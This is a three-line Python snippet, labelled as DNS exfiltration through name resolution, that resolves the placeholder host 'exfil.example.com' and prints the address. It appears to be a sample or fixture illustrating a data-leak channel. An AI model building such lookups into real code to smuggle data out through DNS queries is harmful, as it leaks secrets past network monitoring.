# DNS lookup (exfiltration through name resolution)
import socket
print(socket.gethostbyname("exfil.example.com"))
